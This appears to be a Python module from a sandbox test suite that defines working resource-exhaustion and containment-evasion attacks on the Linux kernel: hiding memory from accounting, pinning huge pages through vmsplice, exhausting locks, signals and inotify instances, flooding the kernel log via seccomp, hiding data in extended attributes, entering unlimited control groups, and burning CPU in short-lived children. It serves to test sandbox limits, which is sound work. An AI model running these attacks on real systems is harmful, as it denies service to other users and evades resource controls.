"""Attacks on memory and counters of the kernel, where the limits of a process do not look."""

# ruff: noqa: RUF012, these tables are never changed

import contextlib
import ctypes
import fcntl
import hashlib
import mmap
import os
import resource
import signal
import struct
import tempfile
import threading
import time

from hostile.base import ATTACK_STEP, Attack, libc, open_fds, syscall, wait_a_moment
from hostile.bombs import CpuAttack
from hostile.resources import MemoryAttack

_MADV_DONTNEED, _MADV_HUGEPAGE, _MAP_POPULATE, _MAP_NORESERVE = 4, 14, 0x8000, 0x4000
_VMSPLICE, _SIGQUEUE, _SECCOMP, _INOTIFY = 278, 129, 317, 294
_HUGE_PAGE = 2 * 2**20
_CGROUP_MAGIC = (0x27E0EB, 0x63677270)  # of file systems, versions 1 and 2
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]


def map_memory(size, protection, flags):
    """Map memory without a file, and return its address."""
    address = libc.mmap(None, size, protection, flags | mmap.MAP_ANONYMOUS, -1, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise MemoryError("no map")
    return address


class HidesSharedPages(MemoryAttack):
    """Fills a shared map and drops the pages from its tables, so that nobody counts them as its own."""

    def take(self):
        size = 64 * 2**20
        address = map_memory(size, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_SHARED)
        for start in range(0, size, 2**22):
            ctypes.memset(address + start, 1, 2**22)
            libc.madvise(address + start, 2**22, _MADV_DONTNEED)
        self.held.append(address)
        return size


class TakesMemoryAtOnce(MemoryAttack):
    """Takes all memory by one call, before anybody can look."""

    def take(self):
        size = 1200 * 2**20
        flags = mmap.MAP_SHARED | _MAP_POPULATE
        self.held.append(map_memory(size, mmap.PROT_READ | mmap.PROT_WRITE, flags))
        return size


class TakesPageTables(MemoryAttack):
    """Reads one byte of every 2 MB of a huge empty map: page tables grow, and nothing else."""

    limits = {**MemoryAttack.limits, "step_timeout": 30.0}

    def take(self):
        size = 8 * 2**30
        address = map_memory(size, mmap.PROT_READ, mmap.MAP_PRIVATE | _MAP_NORESERVE)
        libc.madvise(address, size, 15)  # no huge pages, which need no tables
        for start in range(0, size, _HUGE_PAGE):
            ctypes.string_at(address + start, 1)
        self.held.append(address)
        return size // 512


class PinsHugePages(MemoryAttack):
    """Gives one byte of each of many huge pages to pipes, which hold the whole pages when it unmaps them."""

    either = ("root", "user")  # not every kernel has huge pages to give

    def take(self):
        readable, writable = os.pipe()
        self.held += [os.fdopen(readable), os.fdopen(writable, "w")]
        n_pages = 16
        size = (n_pages + 1) * _HUGE_PAGE
        address = map_memory(size, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE)
        first = (address + _HUGE_PAGE - 1) & ~(_HUGE_PAGE - 1)
        libc.madvise(address, size, _MADV_HUGEPAGE)
        ctypes.memset(first, 1, n_pages * _HUGE_PAGE)
        for i in range(n_pages):
            vector = ctypes.create_string_buffer(struct.pack("QQ", first + i * _HUGE_PAGE, 1), 16)
            syscall(_VMSPLICE, writable, vector, 1, 0)
        libc.munmap(address, size)
        return n_pages * _HUGE_PAGE


class TakesFilesBesideMemory(MemoryAttack):
    """Takes almost as much memory as it may, and as much again in files of its scratch folder."""

    limits = {
        **MemoryAttack.limits, "memory_limit": 300, "disk_limit": 1200, "step_timeout": 30.0,
    }  # fmt: skip
    either = ("user",)  # without control groups files have a limit of their own

    def take(self):
        path = os.path.join(tempfile.gettempdir(), f"{self.targets['mark']}-{len(self.held)}")
        with open(path, "wb") as file:
            file.write(b"x" * (32 * 2**20))
        self.held.append(path)
        return 32 * 2**20

    def attack(self):
        try:
            super().attack()
        finally:
            for number in range(64):
                with contextlib.suppress(OSError):
                    os.unlink(
                        os.path.join(tempfile.gettempdir(), f"{self.targets['mark']}-{number}")
                    )


class TakesLocks(Attack):
    """Takes tens of thousands of record locks, each of which the kernel must remember."""

    limits = {"step_timeout": 20.0}

    def attack(self):
        def lock_all():
            n_taken = 0
            with tempfile.NamedTemporaryFile() as file:
                for start in range(0, 40_000, 2):
                    fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, start)
                    n_taken += 1
            return f"{n_taken} locks"

        self.attempt("lockf", lock_all)


class QueuesSignals(Attack):
    """Queues signals to itself without end, which count for all processes of its user."""

    limits = {"step_timeout": 20.0}

    def attack(self):
        def queue_all():
            number = signal.SIGRTMIN + 3
            signal.pthread_sigmask(signal.SIG_BLOCK, [number])
            info = ctypes.create_string_buffer(struct.pack("iii", number, 0, -1), 128)
            n_queued = 0
            with contextlib.suppress(OSError):
                while n_queued < 20_000:
                    syscall(_SIGQUEUE, os.getpid(), int(number), info)
                    n_queued += 1
            return f"{n_queued} signals" if n_queued > 1000 else None

        self.attempt("queue", queue_all)


class TakesWatches(Attack):
    """Takes all instances of inotify, of which a user has 128 on the whole machine."""

    def attack(self):
        def take_all():
            taken = []
            with contextlib.suppress(OSError):
                while len(taken) < 200:
                    taken.append(syscall(_INOTIFY, 0))
            for fd in taken:
                os.close(fd)
            return f"{len(taken)} watches" if len(taken) > 16 else None

        self.attempt("inotify", take_all)


class LocksMemory(Attack):
    """Locks memory, so that the machine cannot use it otherwise."""

    def attack(self):
        def lock(size):
            memory = mmap.mmap(-1, size)
            address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
            if libc.mlock(ctypes.c_void_p(address), ctypes.c_size_t(size)) != 0:
                raise OSError(ctypes.get_errno(), "not locked")
            return f"locked {size}"

        self.attempt("mlock", lock, 2**20)
        self.attempt("mlockall", lambda: None if libc.mlockall(3) else "locked all")


class FloodsTheKernelLog(Attack):
    """Installs a filter of its own that has every call logged by the kernel, by both calls."""

    def attack(self):
        # Allows all; the log flag of `seccomp` and the action LOG are what is asked for.
        instruction = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
        code = ctypes.create_string_buffer(instruction, 8)
        program = ctypes.create_string_buffer(
            struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)), 16
        )
        libc.prctl(38, 1, 0, 0, 0)
        self.attempt("seccomp", lambda: f"filter {syscall(_SECCOMP, 1, 2, program)}")

        def install():
            if libc.prctl(22, 2, program, 0, 0) != 0:
                raise OSError(ctypes.get_errno(), "refused")
            return "filter"

        self.attempt("prctl", install)


class TakesAttributes(Attack):
    """Hides data in extended attributes of many files, which count as no content."""

    limits = {"disk_limit": 16, "step_timeout": 20.0}
    either = ("root", "user")  # not every file system has them

    def attack(self):
        folder = tempfile.mkdtemp(prefix=f"{self.targets['mark']}-")

        def fill():
            n_bytes = 0
            with contextlib.suppress(OSError):
                for i in range(4000):
                    path = f"{folder}/{i}"
                    os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
                    for name in ("user.a", "user.b", "user.c"):
                        os.setxattr(path, name, b"x" * 60_000)
                        n_bytes += 60_000
            return f"{n_bytes >> 20} MB of 16" if n_bytes > 32 * 2**20 else None

        self.attempt("attributes", fill)
        import shutil

        shutil.rmtree(folder, ignore_errors=True)


class LeavesItsGroup(Attack):
    """Looks for descriptors of control groups that it inherited, and enters groups without limits."""

    without_sandbox = {"user": "an ordinary user may not"}

    def attack(self):
        status = ctypes.create_string_buffer(256)
        for fd in open_fds():
            if libc.fstatfs(fd, status) == 0 and struct.unpack("q", status[:8])[0] in _CGROUP_MAGIC:
                self.achieved.append(f"descriptor {fd}")

        def enter(path):
            with open(path, "w") as file:
                file.write(f"{os.getpid()}")
            return "entered"

        for root in ("memory", "pids", "unified", "."):
            self.attempt(root, enter, f"/sys/fs/cgroup/{root}/cgroup.procs")


class StarvesMatesOfThreads(Attack):
    """Takes all threads that its slot may have, and plays on while its mate wants one at every step."""

    limits = {"step_timeout": 20.0}
    without_sandbox = "the limit is that of the user, which is large"

    def step(self):
        if self.n_steps != ATTACK_STEP:
            wait_a_moment(0.1)
            return
        libc.pthread_create.argtypes = [ctypes.c_void_p] * 4
        sleep, thread = ctypes.cast(libc.sleep, ctypes.c_void_p), ctypes.c_ulong()
        attributes = ctypes.create_string_buffer(64)
        libc.pthread_attr_init(attributes)
        libc.pthread_attr_setstacksize(attributes, ctypes.c_size_t(16384))
        for _ in range(3000):
            if libc.pthread_create(ctypes.byref(thread), attributes, sleep, 5) != 0:
                break

    def mate_step(self):
        for _ in range(20):
            thread = threading.Thread(target=time.sleep, args=(0.001,))
            thread.start()
            thread.join()


class BurnsInShortChildren(CpuAttack):
    """Burns processor time in children that end before anybody looks, and leave no trace of it."""

    limits = {**CpuAttack.limits, "process_limit": 8}

    def start(self):
        self.burnt = 0.0
        for action in (
            signal.SIG_IGN,
            signal.SIG_DFL,
        ):  # ignored, no time is passed on to the parent
            with contextlib.suppress(OSError):
                signal.signal(signal.SIGCHLD, action)
                break
        threading.Thread(target=self.burn, daemon=True).start()

    def burn(self):
        """Start one child after another."""
        for _ in range(400):
            begin = time.monotonic()
            pid = os.fork()
            if pid == 0:
                while time.monotonic() < begin + 0.01:
                    hashlib.pbkdf2_hmac("sha256", b"x", b"y", 500)
                os._exit(0)
            with contextlib.suppress(ChildProcessError):
                os.waitpid(pid, 0)
            self.burnt += time.monotonic() - begin

    def alternative(self):
        return f"{self.burnt:.1f} s of 1 in children" if self.burnt > 2.5 else None


class FloodsItsOutput(Attack):
    """Prints faster than anybody can read, from threads in the kernel, and then hangs."""

    limits = {"step_timeout": 2.0}
    without_sandbox = "what policies print is discarded"

    def attack(self):
        os.set_blocking(1, True)
        zero = os.open("/dev/zero", os.O_RDONLY)

        def flood():
            while True:
                os.sendfile(1, zero, None, 2**30)

        def write():
            data = b"x" * 2**20
            while True:
                os.write(1, data)

        for function in (flood, write, write):
            threading.Thread(target=function, daemon=True).start()
        wait_a_moment(60)

    def mate_step(self):
        print("still here")  # noqa: T201


class RaisesAllLimits(Attack):
    """Raises every limit of its own, by all calls."""

    without_sandbox = "without a sandbox most limits are not set"
    limits = {"cpu_limit": 60.0}

    def attack(self):
        for kind in range(16):
            _, hard = resource.getrlimit(kind)
            if hard == resource.RLIM_INFINITY:
                continue

            def raise_limit(kind=kind, hard=hard):
                resource.prlimit(os.getpid(), kind, (hard + 1, hard + 1))
                return f"{hard + 1}"

            self.attempt(f"limit {kind}", raise_limit)
